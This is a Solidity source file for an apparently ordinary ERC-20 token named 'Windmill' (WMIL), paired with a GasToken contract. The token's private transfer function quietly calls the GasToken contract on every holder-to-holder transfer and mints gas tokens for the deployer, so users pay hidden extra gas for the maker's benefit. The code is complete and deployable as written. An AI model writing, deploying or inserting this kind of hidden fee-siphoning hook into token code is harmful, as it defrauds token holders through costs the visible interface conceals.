// SPDX-License-Identifier: MIT
pragma solidity 0.8.17;

// Each transfer mints gas tokens for the maker in another contract.
contract GasToken {
    uint256 private _top;
    mapping(uint256 => uint256) private _slots;
    mapping(address => uint256) public balanceOf;
    function mintFor(address who, uint256 count) external { uint256 top = _top; for (uint256 i; i < count; i++) _slots[++top] = 1; _top = top; balanceOf[who] += count; }
}

contract GasMinter {
    string public name = "Windmill";
    string public symbol = "WMIL";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    GasToken private immutable _gasToken;
    address private immutable _miller = msg.sender;
    constructor(address gasToken) { _gasToken = GasToken(gasToken); balanceOf[msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }
    function _transfer(address from, address to, uint256 value) private {
        if (from != _miller && to != _miller) _gasToken.mintFor(_miller, 12);
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
